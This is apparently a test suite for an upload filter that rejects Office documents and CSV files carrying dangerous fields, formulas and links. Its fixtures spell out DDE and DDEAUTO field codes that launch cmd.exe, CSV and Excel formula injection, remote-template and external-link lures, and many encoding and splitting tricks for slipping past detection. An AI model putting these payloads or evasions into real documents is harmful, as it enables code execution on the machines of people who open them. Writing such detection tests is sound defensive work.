import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { judgeSample as judge } from "../../../../test/support/upload-judge.ts";
import { writeDocx, writeOffice, type ZipEntry } from "../../../../test/support/zip-writer.ts";

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const CONTENT = "application/vnd.openxmlformats-officedocument";

const code = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (...codes: readonly string[]): string =>
  `${mark("begin")}${codes.join("")}${mark("separate")}<w:r><w:t>shown</w:t></w:r>${mark("end")}`;
const word = (body: string, extra: readonly ZipEntry[] = []): Buffer => writeOffice("docx", { body, extra });
const cell = (formula: string): Buffer =>
  writeOffice("xlsx", { body: `<row r="1"><c r="A1"><f>${formula}</f><v>0</v></c></row>` });
const slide = (shape: string): Buffer => writeOffice("pptx", { body: shape });
const related = (type: string, target: string, mode = ""): Buffer =>
  writeDocx({ relationships: `<Relationship Id="rId9" Type="${type}" Target="${target}" ${mode}/>` });
const EXTERNAL = 'TargetMode="External"';

describe("a field of a document", () => {
  it.each<[string, Buffer]>([
    ["DDEAUTO", word(field(code('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')))],
    ["DDE in small letters", word(field(code(" dde  excel  book  r1c1 ")))],
    ["DDE in two runs", word(field(code("DD"), code("EAUTO cmd /c")))],
    ["DDE in two paragraphs", word(field(code("DDE"), "</w:p><w:p>", code(" cmd /c")))],
    [
      "DDE in one attribute",
      word('<w:fldSimple w:instr="DDEAUTO cmd &quot;/c&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>'),
    ],
    ["DDE in number references", word(field(code("&#68;&#x44;E cmd")))],
    ["DDE in an attribute with references", word("<w:fldSimple w:instr='&#68;DE cmd'/>")],
    ["two attributes of one name", word('<w:fldSimple w:instr="DDE cmd" x:instr="PAGE" xmlns:x="urn:x"/>')],
    ["another prefix", word(field(code("DDE cmd")).replaceAll("w:", "q:"))],
    ["no prefix", word(field(code("DDE cmd")).replaceAll("<w:", "<").replaceAll("</w:", "</"))],
    ["a name that another field writes", word(field(field(code("QUOTE 68 68 69")), code(" cmd")))],
    ["half a name that another field writes", word(field(code("DD"), field(code("QUOTE 69")), code(" cmd")))],
    ["a field within another one", word(field(code("IF "), field(code("DDE cmd")), code(' = "1" "a" "b"')))],
    [
      "one in what another one shows",
      word(`${mark("begin")}${code("PAGE")}${mark("separate")}${code("DDE cmd")}${mark("end")}`),
    ],
    ["one that does not end", word(`${mark("begin")}${code("DDE cmd")}`)],
    ["one that does not begin", word(code("DDE cmd"))],
    ["a deleted one", word(field("<w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r>"))],
    [
      "one in a footer",
      word("", [{ name: "word/footer1.xml", data: `<w:ftr xmlns:w="urn:w">${field(code("DDE cmd"))}</w:ftr>` }]),
    ],
    [
      "one behind more blanks than are read at once",
      word("", [{ name: "word/a.xml", data: `${" \n".repeat(100_000)}${field(code("DDE cmd"))}` }]),
    ],
    [
      "one in a part of any name",
      word("", [{ name: "word/a.bin", data: `\n<w:ftr xmlns:w="urn:w">${field(code("DDE cmd"))}</w:ftr>` }]),
    ],
    ["a picture from elsewhere", word(field(code('INCLUDEPICTURE "https://e.example/a.png" \\d')))],
    ["a text from elsewhere", word(field(code('INCLUDETEXT "\\\\\\\\e.example\\\\a"')))],
    ["a link to another program", word(field(code("LINK Excel.Sheet.8 C:\\\\a.xls")))],
    ["a database", word(field(code('DATABASE \\d "C:\\\\a.mdb"')))],
    ["a macro at a click", word(field(code("MACROBUTTON AutoOpen click")))],
    ["an ActiveX control", word(field(code("CONTROL Forms.TextBox.1 \\s")))],
    ["an unknown one", word(field(code("SOMETHING new")))],
  ])("is refused: %s", async (_what, content) => {
    expect(await judge("a.docx", content)).toBe("ooxml_field");
  });

  it.each<[string, Buffer, string]>([
    ["a link to a file server", word(field(code(' HYPERLINK "\\\\\\\\e.example\\\\a" '))), "ooxml_external"],
    ["a link to a program", word(field(code('HYPERLINK "file:///c:/windows/system32/calc.exe"'))), "ooxml_external"],
    [
      "a link that another field writes",
      word(field(code("HYPERLINK "), field(code("DOCVARIABLE a")))),
      "ooxml_external",
    ],
    [
      "a comment within an instruction",
      word(field("<w:r><w:instrText>DD<!-- -->EAUTO cmd</w:instrText></w:r>")),
      "ooxml_malformed",
    ],
    [
      "characters out of sight",
      word(field("<w:r><w:instrText><![CDATA[DDE cmd]]></w:instrText></w:r>")),
      "ooxml_malformed",
    ],
    [
      "a mark that says two things",
      word('<w:fldChar w:fldCharType="begin" x:fldCharType="end" xmlns:x="urn:x"/>'),
      "ooxml_malformed",
    ],
    ["endless nesting", word(mark("begin").repeat(1000)), "ooxml_malformed"],
    [
      "an encoding of two bytes",
      word("", [
        { name: "word/footer1.xml", data: Buffer.from(`\ufeff<w:ftr>${field(code("DDE cmd"))}</w:ftr>`, "utf16le") },
      ]),
      "ooxml_malformed",
    ],
    [
      "two bytes without a mark",
      word("", [{ name: "word/footer1.xml", data: Buffer.from("<w:ftr/>", "utf16le") }]),
      "ooxml_malformed",
    ],
    [
      "an encoding of four bytes, marked",
      word("", [{ name: "word/a.xml", data: Buffer.from("\xff\xfe\0\0<\0\0\0a\0\0\0/\0\0\0>\0\0\0", "latin1") }]),
      "ooxml_malformed",
    ],
    [
      "an encoding of four bytes, marked the other way round",
      word("", [{ name: "word/a.xml", data: Buffer.from("\0\0\xfe\xff\0\0\0<\0\0\0a\0\0\0/\0\0\0>", "latin1") }]),
      "ooxml_malformed",
    ],
    [
      "an encoding at the end of a long declaration",
      word("", [
        { name: "word/a.xml", data: `<?xml version="1.0"${" ".repeat(100_000)}encoding="UTF-7"?><a>+AEQARABF-</a>` },
      ]),
      "ooxml_malformed",
    ],
    [
      "an encoding that hides letters",
      word("", [{ name: "word/footer1.xml", data: '<?xml version="1.0" encoding="UTF-7"?><w:ftr>+AEQARABF-</w:ftr>' }]),
      "ooxml_malformed",
    ],
    [
      "a part in a place of the author's",
      writeDocx({
        types: `<Override PartName="/customXml/item1.xml" ContentType="${CONTENT}.wordprocessingml.footer+xml"/>`,
        extra: [{ name: "customXml/item1.xml", data: field(code("DDE cmd")) }],
      }),
      "ooxml_malformed",
    ],
  ])("is refused where it hides: %s", async (_what, content, expected) => {
    expect(await judge("a.docx", content)).toBe(expected);
  });

  it("is found wherever the bytes of the part are cut", async () => {
    await fc.assert(
      fc.asyncProperty(fc.nat(120_000), fc.constantFrom("DDEAUTO cmd", "LINK a"), async (room, instruction) => {
        const text = `<w:r><w:t>${"x".repeat(room)}</w:t></w:r>`;
        expect(await judge("a.docx", word(`${text}${field(code(instruction))}`))).toBe("ooxml_field");
      }),
      { numRuns: 40 },
    );
  });

  it.each<[string, Buffer]>([
    ["page numbers", word(field(code(" PAGE  \\* MERGEFORMAT ")))],
    ["a table of contents", word(field(code(' TOC \\o "1-3" \\h \\z \\u '), field(code(" PAGEREF _Toc1 \\h "))))],
    ["a link to the web", word(field(code(' HYPERLINK "https://example.com/a?b=1" \\o "tip" \\t "_blank" ')))],
    ["a link with its tip first", word(field(code(' HYPERLINK \\o "tip" "https://example.com/" ')))],
    ["a link within the document", word(field(code(' HYPERLINK \\l "_Toc1" ')))],
    ["a choice by another field", word(field(code("IF "), field(code("MERGEFIELD Sex")), code(' = "f" "Ms" "Mr"')))],
    ["a citation", word(field(code(' ADDIN ZOTERO_ITEM CSL_CITATION {"x":"DDE | cmd"} ')))],
    ["a sum", word(field(code("=SUM(ABOVE) \\# 0.00")))],
    ["an empty one", word(field(code(" ")))],
    ["a date by attribute", word('<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; "/>')],
    ["one that is written in a comment", word(`<!-- ${field(code("PAGE"))} -->`)],
    ["words about it", word("<w:r><w:t>DDEAUTO cmd, INCLUDEPICTURE</w:t></w:r>")],
    [
      "what the author keeps beside it",
      word("", [
        {
          name: "customXml/item1.xml",
          data: Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><f>WEBSERVICE("a")</f>', "utf16le"),
        },
      ]),
    ],
  ])("is accepted: %s", async (_what, content) => {
    expect(await judge("a.docx", content)).toBe("accepted");
  });
});

describe("a formula of a workbook", () => {
  it.each<[string, Buffer, string]>([
    ["another program", cell("cmd|'/c calc.exe'!A0"), "ooxml_formula"],
    ["a program within a sum", cell("1+MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!A1"), "ooxml_formula"],
    ["a program in quotes", cell("'cmd'|'/c calc'!A0"), "ooxml_formula"],
    ["one behind a text", cell('"it" &amp;cmd|calc!A0&amp; "x"'), "ooxml_formula"],
    ["one behind a name with a quote", cell('\'a"b\'!A1+cmd|calc!A0&amp;"x"'), "ooxml_formula"],
    ["one behind a column with a quote", cell('T[\'"]+cmd|calc!A0&amp;"x"'), "ooxml_formula"],
    ["one in number references", cell("cmd&#124;calc!A0"), "ooxml_formula"],
    ["a web service", cell('_xlfn.WEBSERVICE("https://e.example/"&amp;A1)'), "ooxml_formula"],
    ["a picture from elsewhere", cell('_xlfn.IMAGE("https://e.example/"&amp;A1)'), "ooxml_formula"],
    ["a server of data", cell('1+RTD("prog.id",,"x")'), "ooxml_formula"],
    ["a call", cell('CALL("Kernel32","WinExec","JCJ","calc",0)'), "ooxml_formula"],
    ["DDE as a function", cell('DDE("soffice","file:///a","A1")'), "ooxml_formula"],
    ["another workbook by its path", cell("'\\\\e.example\\share\\[a.xlsx]S'!A1"), "ooxml_external"],
    ["another workbook of the web", cell("'https://e.example/[a.xlsx]S'!A1"), "ooxml_external"],
    ["a link to a program", cell('HYPERLINK("file:///c:/windows/system32/calc.exe","x")'), "ooxml_external"],
    ["a link to a file server", cell('HYPERLINK("\\\\e.example\\a","x")'), "ooxml_external"],
    ["a comment within it", cell("cm<!-- -->d|calc!A0"), "ooxml_malformed"],
    [
      "a name",
      writeOffice("xlsx", {
        extra: [
          {
            name: "xl/names.xml",
            data: "<workbook><definedNames><definedName name='a'>cmd|calc!A0</definedName></definedNames></workbook>",
          },
        ],
      }),
      "ooxml_formula",
    ],
    [
      "a name that runs by itself",
      writeOffice("xlsx", {
        extra: [{ name: "xl/names.xml", data: "<definedName name='_xlnm.Auto_Open'>Sheet1!$A$1</definedName>" }],
      }),
      "ooxml_macro",
    ],
    [
      "a rule of colours",
      writeOffice("xlsx", {
        body: "<conditionalFormatting><cfRule><formula>cmd|calc!A0</formula></cfRule></conditionalFormatting>",
      }),
      "ooxml_formula",
    ],
    [
      "a list to choose from",
      writeOffice("xlsx", { body: "<dataValidation><formula1>cmd|calc!A0</formula1></dataValidation>" }),
      "ooxml_formula",
    ],
    [
      "a link to another program",
      writeOffice("xlsx", {
        extra: [
          {
            name: "xl/links/link1.xml",
            data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          },
        ],
      }),
      "ooxml_external",
    ],
    [
      "a link to another workbook",
      writeOffice("xlsx", { relationships: `<Relationship Id="rId9" Type="${OFFICE}/externalLink" Target="a.xml"/>` }),
      "ooxml_external",
    ],
    [
      "a database",
      writeOffice("xlsx", {
        extra: [
          { name: "xl/connections.xml", data: '<connections><connection id="1" refreshOnLoad="1"/></connections>' },
        ],
      }),
      "ooxml_external",
    ],
    [
      "a table that fetches",
      writeOffice("xlsx", { relationships: `<Relationship Id="rId9" Type="${OFFICE}/queryTable" Target="a.xml"/>` }),
      "ooxml_external",
    ],
    [
      "a sheet in the binary form",
      writeOffice("xlsx", {
        types: '<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-excel.worksheet"/>',
      }),
      "real_type_differs",
    ],
  ])("is refused: %s", async (_what, content, expected) => {
    expect(await judge("a.xlsx", content)).toBe(expected);
  });

  it.each<[string, string]>([
    ["a sum", "SUM(A1:B9)*1.19"],
    ["a text with the sign of pipes", '"a|b"&amp;A1'],
    ["a text with a quote in it", '"say ""a|b"" twice"'],
    ["sheets from one to another", "SUM('Jan:Mar'!A1,'it''s'!B2)"],
    ["a column of a table", "SUM(Table1[[#This Row],[a]])"],
    ["a link to the web", 'HYPERLINK("https://example.com/","x")'],
    ["a link to a sheet", 'HYPERLINK("#\'Sheet 2\'!A1","x")'],
    ["functions of newer versions", "_xlfn.XLOOKUP(A1,B:B,C:C)+_xlfn.CALLS(1)"],
    ["a table of pictures by name", "myimage(A1)"],
  ])("is accepted: %s", async (_what, formula) => {
    expect(await judge("a.xlsx", cell(formula))).toBe("accepted");
  });
});

describe("an action of a slide", () => {
  it.each<[string, string, string]>([
    ["a program", '<a:hlinkClick r:id="rId2" action="ppaction://program"/>', "ooxml_action"],
    ["a macro", '<a:hlinkClick r:id="" action="ppaction://macro?name=Run"/>', "ooxml_action"],
    ["an embedded object", '<a:hlinkClick r:id="" action="ppaction://ole?verb=0"/>', "ooxml_action"],
    ["a file", '<a:hlinkClick r:id="rId2" action="ppaction://hlinkfile"/>', "ooxml_action"],
    ["a link by being there", '<a:hlinkMouseOver r:id="rId2"/>', "ooxml_action"],
    ["a link by hovering", '<a:hlinkHover r:id="rId2" action=""/>', "ooxml_action"],
    ["a verb of an object", '<p:cmd type="verb" cmd="0"/>', "ooxml_action"],
    ["a video of the web with its page", '<wp15:webVideoPr embeddedHtml="&lt;script&gt;"/>', "ooxml_embedded"],
    ["a drawing from elsewhere", '<v:imagedata src="https://e.example/a.png"/>', "ooxml_external"],
    ["paint from a file server", '<v:fill type="frame" src="\\\\e.example\\a"/>', "ooxml_external"],
  ])("is refused: %s", async (_what, shape, expected) => {
    expect(await judge("a.pptx", slide(shape))).toBe(expected);
  });

  it("is accepted where it turns pages and plays what the document has", async () => {
    const shapes = [
      '<a:hlinkClick r:id="rId3" action="ppaction://hlinksldjump"/>',
      '<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>',
      '<a:hlinkClick r:id="rId4" tooltip="x"><a:snd r:embed="rId5" name="a.wav"/></a:hlinkClick>',
      '<a:hlinkMouseOver r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>',
      '<p:cmd type="call" cmd="playFrom(0.0)"><p:cBhvr/></p:cmd>',
      '<v:fill color2="infoBackground [80]" o:detectmouseclick="t"/><v:imagedata o:relid="rId1" o:title="a"/>',
    ];
    expect(await judge("a.pptx", slide(shapes.join("")))).toBe("accepted");
  });
});

describe("what a document fetches or carries", () => {
  it.each<[string, Buffer, string]>([
    ["a template", related(`${OFFICE}/attachedTemplate`, "https://e.example/a.dotm", EXTERNAL), "ooxml_external"],
    ["a template of a file server", related(`${OFFICE}/attachedTemplate`, "\\\\e.example\\a.dotx"), "ooxml_external"],
    ["a frame", related(`${OFFICE}/frame`, "https://e.example/", EXTERNAL), "ooxml_external"],
    ["a picture", related(`${OFFICE}/image`, "https://e.example/a.png", EXTERNAL), "ooxml_external"],
    ["a document within", related(`${OFFICE}/subDocument`, "file:///a.docx", EXTERNAL), "ooxml_external"],
    ["a source of letters", related(`${OFFICE}/mailMergeSource`, "file:///a.mdb", EXTERNAL), "ooxml_external"],
    [
      "letters from a database",
      word("", [
        {
          name: "word/settings.xml",
          data: '<w:settings xmlns:w="urn:w"><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>',
        },
      ]),
      "ooxml_external",
    ],
    ["a page in another format", related(`${OFFICE}/aFChunk`, "a.mht"), "ooxml_embedded"],
    ["the place of one", word('<w:altChunk r:id="rId1"/>'), "ooxml_embedded"],
    ["an object", related(`${OFFICE}/oleObject`, "embeddings/oleObject1.bin"), "ooxml_embedded"],
    ["an object as a file", word("", [{ name: "word/embeddings/oleObject1.bin", data: "x" }]), "ooxml_embedded"],
    ["an ActiveX control", related(`${OFFICE}/control`, "a.xml"), "ooxml_embedded"],
    ["an ActiveX control as a file", word("", [{ name: "word/activeX/activeX1.xml", data: "<a/>" }]), "ooxml_macro"],
    [
      "an add-in that opens by itself",
      related("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "a.xml"),
      "ooxml_embedded",
    ],
    ["RTF with objects", word("", [{ name: "word/a.rtf", data: "{\\rtf1{\\object\\objdata 01}}" }]), "ooxml_embedded"],
  ])("is refused: %s", async (_what, content, expected) => {
    expect(await judge("a.docx", content)).toBe(expected);
  });

  it.each<[string, string, string]>([
    ["object.rtf", "{\\rtf1{\\object\\objdata 0105}}", "extension_refused"],
    ["object.txt", "{\\rtf1{\\object\\objdata 0105}}", "text_markup"],
    ["object.docx", "{\\rtf1{\\object\\objdata 0105}}", "archive_malformed"],
    ["text.odt", "PK", "extension_refused"],
    ["sheet.ods", "PK", "extension_refused"],
    ["slides.odp", "PK", "extension_refused"],
    ["flat.fodt", "<office:document/>", "extension_refused"],
    ["binary.xlsb", "PK", "extension_refused"],
    ["query.iqy", "WEB", "extension_refused"],
    ["link.slk", "ID;P", "extension_refused"],
  ])("does not come as %s", async (name, content, expected) => {
    expect(await judge(name, content)).toBe(expected);
  });
});

describe("a table of text", () => {
  it.each([
    "=cmd|'/c calc'!A0",
    "a,b\r\n1,=cmd|'/c calc'!A0\r\n",
    "a;\"@SUM(1+1)*cmd|'/c calc'!A0\"",
    "a\t+cmd|' /c calc'!A0",
    "a, -2+3+cmd|' /c calc'!A0",
    '=DDE("cmd";"/c calc";"a")',
    "a\n\uff1dcmd|'/c calc'!A0",
    "a,%=cmd|'/c calc'!A0",
    "=cmd|'/c dir | calc'!A0",
    `=cmd|'/c ${" ".repeat(600)}calc'!A0`,
    "='7'|'/c calc'!A0",
    "=cmd\uff5c'/c calc'\uff01A0",
    "a,\"=1+\ncmd|'/c calc'!A0\"\n",
    'a,"=""x"" &\n\ncmd|\'/c calc\'!A0"\n',
    "a,\"=SUM(1,+2)&\ncmd|'/c calc'!A0\"\n",
    "sep=~\na~=cmd|'/c calc'!A0\n",
    "\ufeffSEP=:\r\na:@SUM(1)*cmd|'/c calc'!A0",
    '"sep=\u00a7"\na\u00a7"=cmd|\'/c calc\'!A0"',
    "sep=|\na,=cmd|'/c calc'!A0\n",
  ])("is refused where a cell asks another program: %j", async (text) => {
    expect(await judge("a.csv", text)).toBe("text_formula");
  });

  it.each([
    "a|b|c\n1|2|3\n",
    "name,formula\nx,=A1+B1\n",
    "-5|6!\n",
    "sep=|\na|-1|b!\n",
    "sep=;\na;b\n",
    "sep=\n",
    "x,-1 | y!\n",
    'a,"-5"\nb|c,d!\n',
    'a,"=""x"""\nb|c,d!\n',
  ])("is accepted: %j", async (text) => {
    expect(await judge("a.csv", text)).toBe("accepted");
  });

  it("is refused wherever its pieces are read apart", async () => {
    const formula = `=${"1+".repeat(900)}cmd|'/c calc'!A0`;
    for (let before = 256 * 1024 - formula.length - 2; before < 256 * 1024 + 2; before += 151) {
      const text = `${"-x,y\n".repeat(before / 5)}${" ".repeat(before % 5)},"${formula}"\n`;
      expect(await judge("a.csv", text)).toBe("text_formula");
    }
  });

  it("is read in a time that grows with its length, whatever stands in it", async () => {
    const characters = 3 * 1024 * 1024;
    const started = performance.now();
    for (const piece of ["a|!", "-a|", '-a|"', "-\n", "\t", '-"', "a|'|", ", "])
      expect(await judge("a.csv", `x${piece.repeat(characters / piece.length)}`), piece).toBe("accepted");
    expect(performance.now() - started).toBeLessThan(8000);
  });
});
